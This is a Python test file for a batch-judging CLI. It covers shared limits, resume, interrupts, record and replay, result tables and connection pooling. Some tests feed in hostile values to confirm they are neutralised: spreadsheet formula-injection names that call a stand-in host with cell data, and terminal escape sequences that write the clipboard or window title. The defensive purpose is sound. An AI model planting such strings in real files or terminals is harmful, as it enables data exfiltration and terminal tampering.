"""`judge batch`: many sessions in one process, shared limits, resume, output, isolation."""

from __future__ import annotations

import csv
import json
import os
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner

import harness
from harness.batch import core
from harness.batch.discover import discover
from harness.batch.limits import BatchLimits
from harness.batch.merge import merge_results
from harness.cite import Reply as CiteReply
from harness.cli import cli
from harness.contract.judgment import check_judge_file
from harness.errors import UsageError
from tests.support.apiserver import Reply, serve_with_env
from tests.support.batch_helpers import (
    StatelessModel,
    assert_replayed_alike,
    copy_fixtures,
    mentions,
    responder,
    sessions_under,
)
from tests.support.paths import FIXTURES

KEY = "sk-ant-canary-batch-0001"
REPLAYS = FIXTURES / "replays"
REPLAYED = ["clean", "dangling-citations", "wrong-types", "empty-findings", "no-answer"]


@pytest.fixture
def api(monkeypatch: pytest.MonkeyPatch) -> Iterator[Any]:
    yield from serve_with_env(monkeypatch, KEY)


def lines(stdout: str) -> list[dict[str, Any]]:
    return [json.loads(line) for line in stdout.splitlines() if line.strip()]


def batch_cli(*args: str) -> Any:
    return CliRunner().invoke(cli, ["batch", *args])


# -- replayed fixtures through the CLI -----------------------------------------------


def test_a_folder_of_replayed_fixtures(tmp_path: Path) -> None:
    root = tmp_path / "root"
    copy_fixtures(root, FIXTURES, REPLAYED)
    (root / "notes").mkdir()  # not a session: ignored
    results = tmp_path / "out" / "results.csv"
    args = [str(root), "--replay-dir", str(REPLAYS), "--fetch", "stored", "--sessions", "3"]
    first = batch_cli(*args, "--results", str(results), "--progress-interval", "0.05")
    assert first.exit_code == 0, first.output
    out = lines(first.stdout)
    assert sorted(o["session"] for o in out) == sorted(REPLAYED)
    for o in out:
        assert set(o) == {"session", "dir", "wroteJudge", "upToDate", "note", "outcome", "skipped"}
        assert o["wroteJudge"] is True and o["skipped"] is False and o["upToDate"] is False
        assert check_judge_file(Path(o["dir"]) / "judge.json").valid
        assert Path(o["dir"]).parent == root.resolve()
    assert all(line.isascii() for line in first.stdout.splitlines())
    outcomes = {o["session"]: o["outcome"] for o in out}
    assert outcomes["wrong-types"] == "repaired" and outcomes["empty-findings"] == "fallback"
    assert outcomes["clean"] == "model-written"
    # stderr: progress lines, then the table with every session and the statistics.
    assert "judge batch: 5/5 sessions done" in first.stderr
    for name in REPLAYED:
        assert name in first.stderr
    assert "median" in first.stderr and "5/5 sessions with a valid judge.json" in first.stderr
    with results.open() as handle:
        table = list(csv.DictReader(handle))
    assert [r["session"] for r in table] == sorted(REPLAYED)
    clean = next(r for r in table if r["session"] == "clean")
    assert clean["factualAccuracy"] == "4" and clean["supported"] == "9"
    empty = next(r for r in table if r["session"] == "empty-findings")
    assert empty["toolEfficiency"] == "Unknown" and empty["unknowns"] == "5"

    # Again: every session is up to date, nothing is judged.
    stamps = {n: (root / n / "judge.json").read_bytes() for n in REPLAYED}
    again = batch_cli(*args, "--results", str(tmp_path / "r.jsonl"))
    assert again.exit_code == 0
    assert {o["outcome"] for o in lines(again.stdout)} == {"up-to-date"}
    assert all(o["skipped"] and not o["wroteJudge"] for o in lines(again.stdout))
    assert all(o["upToDate"] is True for o in lines(again.stdout))  # as run's receipt says
    assert {n: (root / n / "judge.json").read_bytes() for n in REPLAYED} == stamps
    rows = [json.loads(x) for x in (tmp_path / "r.jsonl").read_text().splitlines()]
    assert next(r for r in rows if r["session"] == "clean")["factualAccuracy"] == 4

    # Only the one named, forced.
    forced = batch_cli(*args, "clean", "--force", "-q")
    assert forced.exit_code == 0 and forced.stderr == ""
    assert [(o["session"], o["outcome"]) for o in lines(forced.stdout)] == [
        ("clean", "model-written")
    ]


@pytest.mark.parametrize(
    ("name", "cell"),
    [
        *[
            (
                f'{start}HYPERLINK("x.invalid?"&A1,"click")',
                f'\'{start}HYPERLINK("x.invalid?"&A1,"click")',
            )
            for start in "=+-@"
        ],
        ("\tcmd\x1b]0;pwn\x07", "\\x09cmd\\x1b]0;pwn\\x07"),  # shown, not sent
        ("plain name", "plain name"),
    ],
)
def test_a_session_name_a_spreadsheet_would_run_is_text_in_the_csv(
    tmp_path: Path, name: str, cell: str
) -> None:
    root = tmp_path / "root"
    sessions_under(root, [name])
    results, jsonl, empty = tmp_path / "r.csv", tmp_path / "r.jsonl", tmp_path / "none"
    empty.mkdir()
    args = [str(root), "--replay-dir", str(empty), "-q"]
    result = batch_cli(*args, "--results", str(results))
    assert result.exit_code == 1  # no replay for it: not written, but still a row
    with results.open() as handle:
        (row,) = list(csv.DictReader(handle))
    assert row["session"] == cell
    batch_cli(*args, "--results", str(jsonl))
    assert json.loads(jsonl.read_text())["session"] == name  # JSON Lines keep it exact


def test_one_session_failing_never_stops_the_others(tmp_path: Path) -> None:
    root = tmp_path / "root"
    copy_fixtures(root, FIXTURES, ["clean", "no-answer"])
    copy_fixtures(tmp_path, FIXTURES, ["with-trace"])
    (tmp_path / "with-trace").rename(root / "orphan")  # no replay is named after it
    broken = root / "broken"
    copy_fixtures(root, FIXTURES, ["dangling-citations"])
    (root / "dangling-citations").rename(broken)
    (broken / ".judge").symlink_to(tmp_path)  # refused: not-written
    result = batch_cli(str(root), "--replay-dir", str(REPLAYS), "--fetch", "stored", "-q")
    assert result.exit_code == 1
    out = {o["session"]: o for o in lines(result.stdout)}
    assert out["clean"]["outcome"] == "model-written"
    assert out["no-answer"]["outcome"] == "model-written"
    assert out["broken"]["outcome"] == "not-written" and "symbolic link" in out["broken"]["note"]
    # No replay for "orphan": a loud replay error for that session alone.
    assert out["orphan"]["outcome"] == "not-written"
    assert "no replay for this session" in out["orphan"]["note"]


def test_an_unexpected_fault_in_one_session_is_that_sessions(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    root = tmp_path / "root"
    sessions_under(root, ["a", "b", "c"])
    real = core.judge_session

    def flaky(folder: Path, **kwargs: Any) -> Any:
        if Path(folder).name == "b":
            raise RuntimeError("boom")
        return real(folder, **kwargs)

    monkeypatch.setattr(core, "judge_session", flaky)
    model = StatelessModel()
    seen: list[str] = []
    batch = harness.judge_batch(
        root, client=model, fetch="off", cite=False, on_result=lambda r: seen.append(r.session)
    )
    assert sorted(seen) == ["a", "b", "c"]
    by = {s.session: s for s in batch.sessions}
    assert by["b"].outcome == "error" and "RuntimeError: boom" in by["b"].note
    assert by["a"].ok and by["c"].ok and not by["b"].ok
    assert batch.exit_code == 1
    assert batch.totals["failed"] == 1 and batch.totals["outcomes"]["model-written"] == 2


# -- against the loopback Messages-API server -----------------------------------------


def test_live_batch_on_one_client_against_the_loopback_api(
    tmp_path: Path, api: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    server = api([], default=Reply(responder))
    root = tmp_path / "root"
    names = [f"s{i:02d}" for i in range(6)]
    sessions_under(root, names)
    import harness.model.client as client_module

    built: list[Any] = []
    real_build = client_module.build_client

    def counting(settings: Any) -> Any:
        built.append(settings)
        return real_build(settings)

    monkeypatch.setattr(client_module, "build_client", counting)
    result = batch_cli(str(root), "--fetch", "off", "--sessions", "3", "--cite-requests", "2")
    assert result.exit_code == 0, result.output
    out = lines(result.stdout)
    assert [o["outcome"] for o in out] == ["model-written"] * 6
    assert len(built) == 1  # one HTTP client for the judge and the audit of every session
    assert built[0].connections == 3 + 2  # a connection kept alive per request in flight
    judge_calls = [r for r in server.requests if "output_config" not in r.body]
    cite_calls = [r for r in server.requests if "output_config" in r.body]
    assert len(judge_calls) == 6 * 3 and len(cite_calls) >= 6
    for name in names:
        record = json.loads((root / name / ".judge" / "run.json").read_text())
        assert record["citations"]["verdicts"]["supported"] == 1
        assert any(mentions(r.body, name) for r in cite_calls)
    assert all(
        KEY in r.headers.get("x-api-key", "") + r.headers.get("authorization", "")
        for r in server.requests
    )
    assert KEY not in result.stdout + result.stderr

    count = len(server.requests)
    again = batch_cli(str(root), "--fetch", "off")
    assert again.exit_code == 0
    assert len(server.requests) == count  # every session up to date: no request at all
    assert {o["outcome"] for o in lines(again.stdout)} == {"up-to-date"}


def test_no_key_is_a_configuration_error_before_any_session(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.delenv("ANTHROPIC_API_KEY", raising=False)
    monkeypatch.delenv("ANTHROPIC_AUTH_TOKEN", raising=False)
    root = tmp_path / "root"
    sessions_under(root, ["a"])
    result = batch_cli(str(root))
    assert result.exit_code == 2 and "no API key" in result.stderr
    assert not (root / "a" / "judge.json").exists()
    assert "sessions done" not in result.stderr


# -- shared limits --------------------------------------------------------------------


def test_audit_requests_in_flight_are_bounded_across_sessions(tmp_path: Path) -> None:
    root = tmp_path / "root"
    sessions_under(root, [f"s{i}" for i in range(6)])
    lock = threading.Lock()
    now = {"in": 0, "most": 0, "asked": 0}

    class SlowCite:
        def ask(self, request: dict[str, Any]) -> CiteReply:
            with lock:
                now["in"] += 1
                now["asked"] += 1
                now["most"] = max(now["most"], now["in"])
            time.sleep(0.05)
            with lock:
                now["in"] -= 1
            return CiteReply(answers=dict.fromkeys(request["questions"], 0.9))

    batch = harness.judge_batch(
        root,
        limits=BatchLimits(sessions=6, cite_requests=2),
        client=StatelessModel(),
        cite_client=SlowCite(),
        fetch="off",
        cite_concurrency=8,
    )
    assert batch.exit_code == 0
    assert now["asked"] == 12  # 6 sessions × (1 screening + 1 confirm)
    assert now["most"] == 2


def test_the_batch_token_budget_stops_new_turns_and_new_sessions(tmp_path: Path) -> None:
    root = tmp_path / "root"
    sessions_under(root, ["a", "b", "c"])
    model = StatelessModel()
    # Each reply costs 120 budgeted tokens (100 in, 20 out): the second turn passes 150.
    batch = harness.judge_batch(
        root,
        limits=BatchLimits(sessions=1, max_tokens=150),
        client=model,
        fetch="off",
        cite=False,
    )
    by = {s.session: s for s in batch.sessions}
    assert len(model.requests) == 2
    assert by["a"].outcome == "fallback"
    assert "the batch's token budget (150 tokens) was used up" in by["a"].note
    assert by["a"].halted == "limit"  # stopped by a limit, not by an interrupt
    for name in ("b", "c"):
        assert by[name].outcome == "not-started" and by[name].skipped
        assert by[name].halted == "limit"
        assert "token budget (150 tokens) was used up before this session started" in (
            by[name].note
        )
        assert not (root / name / "judge.json").exists()
    assert batch.exit_code == 1 and batch.tokens == 240


def test_the_batch_time_limit(tmp_path: Path) -> None:
    root = tmp_path / "root"
    sessions_under(root, ["a", "b", "c"])
    model = StatelessModel(delay=0.25)
    batch = harness.judge_batch(
        root,
        limits=BatchLimits(sessions=1, max_seconds=0.4),
        client=model,
        fetch="off",
        cite=False,
    )
    # Cut at the limit, whatever the machine's load: a request answers after 0.25 s, so at
    # most two start within 0.4 s (a slower machine starts fewer); a whole run asks more.
    assert len(model.requests) <= 2
    by = {s.session: s for s in batch.sessions}
    assert by["a"].outcome == "fallback" and "time limit" in by["a"].note
    assert by["c"].outcome == "not-started" and "time limit (0.4 s)" in by["c"].note
    assert batch.exit_code == 1


# -- discovery, usage, the terminal ------------------------------------------------------


def test_discovery_takes_real_session_folders_directly_under_root(tmp_path: Path) -> None:
    root = tmp_path / "root"
    sessions_under(root, ["b", "a"])
    (root / "empty").mkdir()
    (root / ".hidden").mkdir()
    (root / ".hidden" / "answer.md").write_text("x")
    (root / "only-trace").mkdir()
    (root / "only-trace" / "trace.jsonl").write_text("")
    (root / "file.txt").write_text("x")
    (root / "link").symlink_to(root / "a")
    assert [p.name for p in discover(root)] == ["a", "b", "only-trace"]
    assert [p.name for p in discover(root, ["b", "a", "b"])] == ["b", "a"]
    for bad in ["empty", "link", "../root", "nope"]:
        with pytest.raises(UsageError):
            discover(root, [bad])
    with pytest.raises(UsageError):
        discover(tmp_path / "absent")


def test_usage_errors_exit_2_before_anything_is_judged(tmp_path: Path) -> None:
    root = tmp_path / "root"
    sessions_under(root, ["a"])
    for args in (
        [str(root), "nope"],
        [str(root), "--results", str(tmp_path / "r.txt")],
        [str(root), "--replay-dir", str(tmp_path / "absent")],
        [str(tmp_path / "absent")],
        [str(root), "--sessions", "0"],
    ):
        result = batch_cli(*args)
        assert result.exit_code == 2, (args, result.output)
        assert not (root / "a" / ".judge").exists()
        assert "sessions done" not in result.stderr  # no progress for a batch never begun


def test_control_characters_in_names_and_notes_are_neutralised(tmp_path: Path) -> None:
    root = tmp_path / "root"
    evil = "ev\x1b]52;c;aGk=\x07il\u2028x"
    sessions_under(root, [evil])
    (root / evil / ".judge").symlink_to(tmp_path)  # its note repeats the name
    result = batch_cli(str(root), "--replay-dir", str(REPLAYS), "--fetch", "off")
    assert result.exit_code == 1
    for stream in (result.stdout, result.stderr):
        assert "\x1b" not in stream and "\x07" not in stream and "\u2028" not in stream
    assert "ev\\x1b]52;c;aGk=\\x07il\\u2028x" in result.stderr
    (line,) = result.stdout.splitlines()
    assert json.loads(line)["session"] == evil


def test_run_options_that_name_one_file_are_refused(tmp_path: Path) -> None:
    root = tmp_path / "root"
    sessions_under(root, ["a"])
    from harness.batch import core

    for option in ("replay", "record", "transcript", "cite_replay"):
        with pytest.raises(UsageError, match="one file per run"):
            core.judge_batch(root, client=StatelessModel(), **{option: tmp_path / "f"})
        with pytest.raises(TypeError):  # the typed API has no such keyword
            harness.judge_batch(root, client=StatelessModel(), **{option: tmp_path / "f"})
    with pytest.raises(UsageError, match="invalid run options"):
        harness.judge_batch(root, client=StatelessModel(), max_turns=0)
    assert not os.path.exists(root / "a" / ".judge")


def test_results_as_json_lines_and_python_totals(tmp_path: Path) -> None:
    root = tmp_path / "root"
    sessions_under(root, ["a", "b"])
    (root / "c" / "findings").mkdir(parents=True)  # no claims: the no-findings fallback
    batch = harness.judge_batch(root, client=StatelessModel(), fetch="off", cite=False)
    from harness.batch.result import rows
    from harness.batch.table import dimension_stats, write_results

    table = rows(batch)
    stats = dimension_stats(table)
    assert stats["factualAccuracy"] == {
        "n": 2,
        "mean": 4.0,
        "median": 4,
        "unknown": 1,
        "missing": 0,
    }
    assert stats["toolEfficiency"]["n"] == 0 and stats["toolEfficiency"]["unknown"] == 3
    target = tmp_path / "r.ndjson"
    write_results(target, batch)
    assert [json.loads(x)["session"] for x in target.read_text().splitlines()] == ["a", "b", "c"]
    assert batch.totals["ok"] == 3 and batch.totals["requests"] == 6


def test_batch_limits_never_change_what_makes_a_session_up_to_date(tmp_path: Path) -> None:
    root = tmp_path / "root"
    sessions_under(root, ["a", "b"])
    limits = BatchLimits(max_seconds=3600, max_tokens=10_000_000)
    first = harness.judge_batch(root, limits=limits, client=StatelessModel(), fetch="off")
    assert [s.outcome for s in first.sessions] == ["model-written"] * 2
    later = BatchLimits(max_seconds=1800, max_tokens=5_000_000, sessions=1)
    model = StatelessModel()
    again = harness.judge_batch(root, limits=later, client=model, fetch="off")
    assert [s.outcome for s in again.sessions] == ["up-to-date"] * 2
    assert model.requests == []


def test_an_interrupt_halts_the_batch_and_stops_sessions_in_flight(tmp_path: Path) -> None:
    root = tmp_path / "root"
    sessions_under(root, ["a", "b", "c", "d", "e"])

    b_asked = threading.Event()

    class Slow(StatelessModel):
        def create(self, **params: Any) -> Any:
            if "session `b`" in json.dumps(params["messages"][0]):
                b_asked.set()
                time.sleep(0.4)  # b is still on its first turns when a ends
            return super().create(**params)

    model = Slow()
    seen: list[str] = []

    def interrupt(result: Any) -> None:
        seen.append(result.session)
        if len(seen) == 1:
            # Ctrl-C once b's first turn is under way, however loaded the machine is.
            assert b_asked.wait(30), "session b never reached the model"
            raise KeyboardInterrupt  # as Ctrl-C arrives on the main thread

    with pytest.raises(harness.BatchInterrupted) as caught:
        harness.judge_batch(
            root,
            limits=BatchLimits(sessions=2),
            client=model,
            fetch="off",
            cite=False,
            on_result=interrupt,
        )
    # Every session still has its result: b and c (handed out in a's place as a ended,
    # just before the interrupt) wound down, the rest never started.
    assert sorted(seen) == ["a", "b", "c", "d", "e"] and seen[0] == "a"
    outcomes = {r.session: r.outcome for r in caught.value.result.sessions}
    assert outcomes["a"] == "model-written" and outcomes["b"] == "fallback"
    assert outcomes["c"] in ("fallback", "not-started")  # as far as it got: no turn sent
    assert outcomes["d"] == outcomes["e"] == "not-started"
    # Why, as a field: the interrupt stopped b, c, d and e; a ran its course.
    halted = {r.session: r.halted for r in caught.value.result.sessions}
    assert halted == {
        "a": None,
        "b": "interrupted",
        "c": "interrupted",
        "d": "interrupted",
        "e": "interrupted",
    }
    not_started = next(r for r in caught.value.result.sessions if r.session == "d")
    assert not_started.note.startswith("not judged: the batch was interrupted before this")
    # b, in flight, sent no further turn and says why; nothing started after.
    record = json.loads((root / "b" / ".judge" / "run.json").read_text())
    assert record["outcome"]["kind"] == "fallback"
    assert "the batch was interrupted" in record["outcome"]["reason"]
    assert record["outcome"]["halted"] == "interrupted"  # said as a field in run.json too
    assert record["turns"] == 1
    a_record = json.loads((root / "a" / ".judge" / "run.json").read_text())
    assert a_record["outcome"].get("halted") is None  # a ran its course
    # So the merge, which reads only run.json, says why as the batch did.
    merged = {r.session: r.halted for r in merge_results(root).sessions}
    assert merged["a"] is None and merged["b"] == "interrupted"
    assert not any("session `c`" in json.dumps(r["messages"][0]) for r in model.requests)
    for name in "de":
        assert not (root / name / ".judge").exists()


def test_record_dir_then_replay_dir_reproduces_the_batch(
    tmp_path: Path, api: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    server = api([], default=Reply(responder))
    names = ["a", "b", "c"]
    live, offline, changed = tmp_path / "live", tmp_path / "offline", tmp_path / "changed"
    for root in (live, offline, changed):
        sessions_under(root, names)
    (changed / "b" / "answer.md").write_text("Another answer: another session digest.\n")
    recorded = tmp_path / "recorded"
    result = batch_cli(str(live), "--fetch", "off", "--record-dir", str(recorded))
    assert result.exit_code == 0, result.output
    assert [o["outcome"] for o in lines(result.stdout)] == ["model-written"] * 3
    assert sorted(p.name for p in recorded.iterdir()) == sorted(
        f"{n}{ext}" for n in names for ext in (".jsonl", ".cite.jsonl")
    )
    asked = len(server.requests)
    assert asked == 3 * (3 + 2)  # each session: three turns and two audit requests

    monkeypatch.delenv("ANTHROPIC_API_KEY")  # offline: no key, no network
    monkeypatch.setenv("ANTHROPIC_BASE_URL", "http://127.0.0.1:9")
    again = batch_cli(str(offline), "--replay-dir", str(recorded))
    assert again.exit_code == 0, again.output
    assert [o["outcome"] for o in lines(again.stdout)] == ["model-written"] * 3
    assert len(server.requests) == asked
    assert_replayed_alike(live, offline, names)

    # b's recording was made for another session digest: refused, unless --replay-any.
    bound = lines(batch_cli(str(changed), "--replay-dir", str(recorded)).stdout)
    assert {o["session"]: o["outcome"] for o in bound}["b"] == "not-written"
    assert "recorded for another session" in next(o for o in bound if o["session"] == "b")["note"]
    anyway = batch_cli(str(changed), "--replay-dir", str(recorded), "--replay-any")
    assert anyway.exit_code == 0, anyway.output
    # (replay_any is one of the up-to-date rule's inputs: a and c are judged again too)
    assert {o["outcome"] for o in lines(anyway.stdout)} == {"model-written"}
    assert (changed / "b" / "judge.json").read_bytes() == (live / "b" / "judge.json").read_bytes()


def test_record_dir_refuses_what_it_cannot_record(tmp_path: Path) -> None:
    root = tmp_path / "root"
    sessions_under(root, ["a"])
    rec = str(tmp_path / "rec")
    for extra, why in ((["--replay-dir", str(tmp_path)], "cannot be used together"),):
        result = batch_cli(str(root), "--record-dir", rec, *extra)
        assert result.exit_code == 2 and why in result.stderr, result.output
    (tmp_path / "file").write_text("")
    result = batch_cli(str(root), "--record-dir", str(tmp_path / "file"))
    assert result.exit_code == 2 and "--record-dir" in result.stderr
    assert not (root / "a" / "judge.json").exists()


def test_the_shared_pool_keeps_a_connection_alive_per_request_in_flight(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """The SDK keeps 100 connections alive: a batch with more requests in flight than that
    would open and close a connection per request beyond them."""
    from harness.model.client import ClientSettings, build_client

    monkeypatch.setenv("ANTHROPIC_API_KEY", KEY)
    wide = build_client(ClientSettings(connections=300)).client
    shards = wide._client._transport._shards  # 300 in flight: 10 pools (see below)
    for pool in (shard._pool for shard in shards):
        assert (pool._max_connections, pool._max_keepalive_connections) == (1000, 300)
    huge = build_client(ClientSettings(connections=1280)).client
    for pool in (shard._pool for shard in huge._client._transport._shards):
        assert (pool._max_connections, pool._max_keepalive_connections) == (1280, 1280)
    plain = build_client(ClientSettings()).client
    pool = plain._client._transport._pool
    assert (pool._max_connections, pool._max_keepalive_connections) == (1000, 100)
    for client in (wide, huge, plain):
        client.close()


def test_a_wide_batch_spreads_its_connections_over_pools_one_per_thread(
    api: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    """httpx's pool scans all its connections twice per request: a batch with more than
    CONNECTIONS_PER_POOL requests in flight gets several pools behind its one client, each
    thread keeping to one, and sends the same requests."""
    from harness.config import CONNECTIONS_PER_POOL
    from harness.model.client import ClientSettings, build_client

    server = api(default=Reply(responder), latency=0.2)
    assert CONNECTIONS_PER_POOL == 32
    assert not hasattr(
        build_client(ClientSettings(connections=32)).client._client._transport, "_shards"
    )
    client = build_client(ClientSettings(connections=70)).client
    shards = client._client._transport._shards
    assert len(shards) == 3  # ceil(70 / 32)
    body = {
        "model": "claude-haiku-5-5",
        "max_tokens": 5,
        "messages": [{"role": "user", "content": "hi"}],
    }
    used: dict[int, set[int]] = {}
    lock = threading.Lock()
    start = threading.Barrier(6)

    def send(n: int) -> None:
        start.wait()
        for _ in range(2):
            client.messages.create(**body)  # type: ignore[arg-type]
            mine = client._client._transport._mine.shard
            with lock:
                used.setdefault(n, set()).add(shards.index(mine))

    threads = [threading.Thread(target=send, args=(n,)) for n in range(6)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert all(len(pools) == 1 for pools in used.values())  # a thread keeps to its pool
    assert {next(iter(p)) for p in used.values()} == {0, 1, 2}  # and the pools are shared out
    # Each pool kept its own connections open: 6 requests at once, 2 per pool.
    assert [len(shard._pool.connections) for shard in shards] == [2, 2, 2]
    assert [r.body for r in server.requests] == [body] * 12  # the same requests
    client.close()
